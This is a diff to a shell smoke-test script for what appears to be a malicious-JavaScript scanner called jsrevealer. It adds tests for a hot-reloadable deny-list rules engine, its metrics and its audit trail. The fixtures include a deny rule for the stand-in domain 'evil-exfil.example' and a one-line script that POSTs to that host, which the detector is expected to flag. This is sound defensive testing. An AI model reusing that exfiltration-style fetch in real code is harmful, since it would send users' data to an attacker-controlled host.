@@ -48,6 +48,14 @@ go test -race ./internal/triage/...
 echo "==> go test -race ./internal/deobfuscate/..."
 go test -race ./internal/deobfuscate/...
 
+# The rules engine evaluates hot-reloadable rule sets inside the scan
+# engine's worker pool, and the alert sink delivers webhooks from its own
+# goroutine, so both full suites (hostile rule files, the fuzz seed corpus,
+# reload-under-load, alert backpressure) run under the race detector
+# unconditionally.
+echo "==> go test -race ./internal/rules/... ./internal/alert/..."
+go test -race ./internal/rules/... ./internal/alert/...
+
 # Serve smoke test: build the CLI, train a tiny model, start the scan
 # service on an ephemeral port (-ready-file publishes the resolved
 # address), and exercise the full serving surface: /healthz, /metrics, a
@@ -69,9 +77,15 @@ printf '%s' 'if (!![]) { eval("var x = \"a\" + \"b\";"); }' \
     | "$tmpdir/jsrevealer" deob 2>/dev/null > "$tmpdir/deobcli.out"
 grep -q 'var x = "ab";' "$tmpdir/deobcli.out" || {
     echo "deob CLI did not normalize the smoke input" >&2; exit 1; }
+
+# Rule set fixture: one deny-listed exfiltration domain. The smoke server
+# loads it at startup and hot-reloads it on SIGHUP alongside the model.
+mkdir -p "$tmpdir/rules"
+printf '%s\n' '{"version":1,"deny":[{"id":"exfil-c2","severity":"critical","domains":["evil-exfil.example"]}]}' \
+    > "$tmpdir/rules/deny.json"
 "$tmpdir/jsrevealer" serve -addr 127.0.0.1:0 -model "$tmpdir/model.json" \
     -audit-dir "$tmpdir/audit" -ready-file "$tmpdir/addr" -log-level warn \
-    -triage-threshold 0.30 &
+    -triage-threshold 0.30 -rules-dir "$tmpdir/rules" &
 serve_pid=$!
 for _ in $(seq 1 100); do
     [ -s "$tmpdir/addr" ] && break
@@ -152,6 +166,44 @@ done
 [ -n "$audit_ok" ] || {
     echo "audit trail missing the scanned content's record" >&2; exit 1; }
 
+# Rules engine: a deny-listed domain must flip an otherwise-benign script
+# to MALICIOUS through /detect, with per-rule provenance in the JSON
+# response and (asynchronously) the audit trail.
+printf '%s' 'fetch("https://evil-exfil.example/collect", {method: "POST"});' \
+    > "$tmpdir/deny.js"
+curl -fsS -X POST --data-binary @"$tmpdir/deny.js" \
+    -o "$tmpdir/denyout" "http://$addr/detect?name=deny.js"
+grep -q '"verdict":"MALICIOUS"' "$tmpdir/denyout" || {
+    echo "/detect did not convict the deny-listed script" >&2; exit 1; }
+grep -q '"tier":"rules"' "$tmpdir/denyout" || {
+    echo "/detect deny verdict missing the rules tier" >&2; exit 1; }
+grep -q '"rule":"exfil-c2"' "$tmpdir/denyout" || {
+    echo "/detect deny verdict missing rule_hits provenance" >&2; exit 1; }
+rules_audit=""
+for _ in $(seq 1 50); do
+    if grep -q '"rule_hits":\[.*"rule":"exfil-c2"' "$tmpdir/audit/audit.ndjson" 2>/dev/null; then
+        rules_audit=1; break
+    fi
+    sleep 0.1
+done
+[ -n "$rules_audit" ] || {
+    echo "audit trail missing rule_hits provenance" >&2; exit 1; }
+
+# Shadow validation: a broken rule file must be rejected with 422 while
+# the previous rule set keeps serving (the deny hit above still fires).
+printf '%s' '{"version":1,"deny":[' > "$tmpdir/rules/deny.json"
+code=$(curl -s -o "$tmpdir/rulesfail" -w '%{http_code}' -X POST \
+    "http://$addr/admin/reload-rules")
+[ "$code" = "422" ] || {
+    echo "/admin/reload-rules accepted a broken rule file (status $code)" >&2; exit 1; }
+curl -fsS -X POST --data-binary @"$tmpdir/deny.js" \
+    -o "$tmpdir/denyout2" "http://$addr/detect?name=deny2.js"
+grep -q '"verdict":"MALICIOUS"' "$tmpdir/denyout2" || {
+    echo "old rule set stopped serving after a failed reload" >&2; exit 1; }
+# Restore the good rule file so the SIGHUP reload below succeeds.
+printf '%s\n' '{"version":1,"deny":[{"id":"exfil-c2","severity":"critical","domains":["evil-exfil.example"]}]}' \
+    > "$tmpdir/rules/deny.json"
+
 # Async job: submit, then poll to completion.
 job_id=$(curl -fsS -X POST --data-binary @"$tmpdir/batch.ndjson" \
     "http://$addr/jobs" | sed -n 's/.*"id":"\([0-9a-f.]*\)".*/\1/p')
@@ -179,9 +231,28 @@ for _ in $(seq 1 50); do
     sleep 0.1
 done
 [ -n "$reloaded" ] || { echo "SIGHUP reload never landed on /metrics" >&2; exit 1; }
+
+# The same SIGHUP also reloads the rule set: initial load (1) plus the
+# SIGHUP reload (2) on the ok counter, and the rejected broken file above
+# on the error counter. Rules reloads must NOT touch the model's
+# jsrevealer_serve_reloads_total counter (asserted at exactly 3 above).
+rules_reloaded=""
+for _ in $(seq 1 50); do
+    curl -fsS -o "$tmpdir/metrics" "http://$addr/metrics"
+    if grep -q 'jsrevealer_rules_reload_total{result="ok"} 2' "$tmpdir/metrics"; then
+        rules_reloaded=1; break
+    fi
+    sleep 0.1
+done
+[ -n "$rules_reloaded" ] || {
+    echo "SIGHUP rules reload never landed on /metrics" >&2; exit 1; }
+grep -q 'jsrevealer_rules_reload_total{result="error"} 1' "$tmpdir/metrics" || {
+    echo "/metrics missing the rejected rules reload" >&2; exit 1; }
 curl -fsS -o "$tmpdir/version" "http://$addr/version"
 grep -q '"sha256"' "$tmpdir/version" || {
     echo "/version missing model digest" >&2; exit 1; }
+grep -q '"rules":{' "$tmpdir/version" || {
+    echo "/version missing live rule-set provenance" >&2; exit 1; }
 
 # Metric surface: scan families plus the serving subsystem's queue,
 # admission, and latency families.
@@ -209,6 +280,14 @@ grep -q '^jsrevealer_serve_request_duration_seconds' "$tmpdir/metrics" || {
     echo "/metrics missing per-endpoint latency histograms" >&2; exit 1; }
 grep -q '^jsrevealer_audit_records_total' "$tmpdir/metrics" || {
     echo "/metrics missing audit record counters" >&2; exit 1; }
+grep -Eq '^jsrevealer_rules_evals_total\{outcome="deny"\} [1-9]' "$tmpdir/metrics" || {
+    echo "/metrics missing a non-zero rules deny counter" >&2; exit 1; }
+grep -Eq '^jsrevealer_rules_hits_total\{rule="exfil-c2"\} [1-9]' "$tmpdir/metrics" || {
+    echo "/metrics missing the per-rule hit counter" >&2; exit 1; }
+grep -Eq '^jsrevealer_scan_tier_total\{tier="rules"\} [1-9]' "$tmpdir/metrics" || {
+    echo "/metrics missing a non-zero rules tier counter" >&2; exit 1; }
+grep -q '^jsrevealer_rules_alert_total' "$tmpdir/metrics" || {
+    echo "/metrics missing alert delivery counters" >&2; exit 1; }
 
 # Graceful shutdown removes the ready-file so the next run never reads a
 # stale address.
@@ -274,5 +353,20 @@ grep -q '^jsrevealer_queue_recovered_total' "$tmpdir/metrics2" || {
     echo "/metrics missing durable queue recovery counter" >&2; exit 1; }
 kill $serve_pid
 wait $serve_pid 2>/dev/null || true
+
+# Flag-docs drift gate: every flag the serve and deob subcommands actually
+# register must be mentioned (as `-flagname`) somewhere in README.md, so
+# the operator docs cannot silently fall behind the binary. The flag list
+# comes from the live -h output, not a hand-maintained list.
+echo "==> flag docs drift check (serve/deob -h vs README.md)"
+for sub in serve deob; do
+    "$tmpdir/jsrevealer" "$sub" -h 2> "$tmpdir/help.$sub" || true
+    flags=$(sed -n 's/^  -\([a-z][a-z-]*\).*/\1/p' "$tmpdir/help.$sub")
+    [ -n "$flags" ] || { echo "no flags parsed from '$sub -h'" >&2; exit 1; }
+    for f in $flags; do
+        grep -q -- "-$f" README.md || {
+            echo "README.md does not mention flag -$f from '$sub -h'" >&2; exit 1; }
+    done
+done
 
 echo "==> OK"
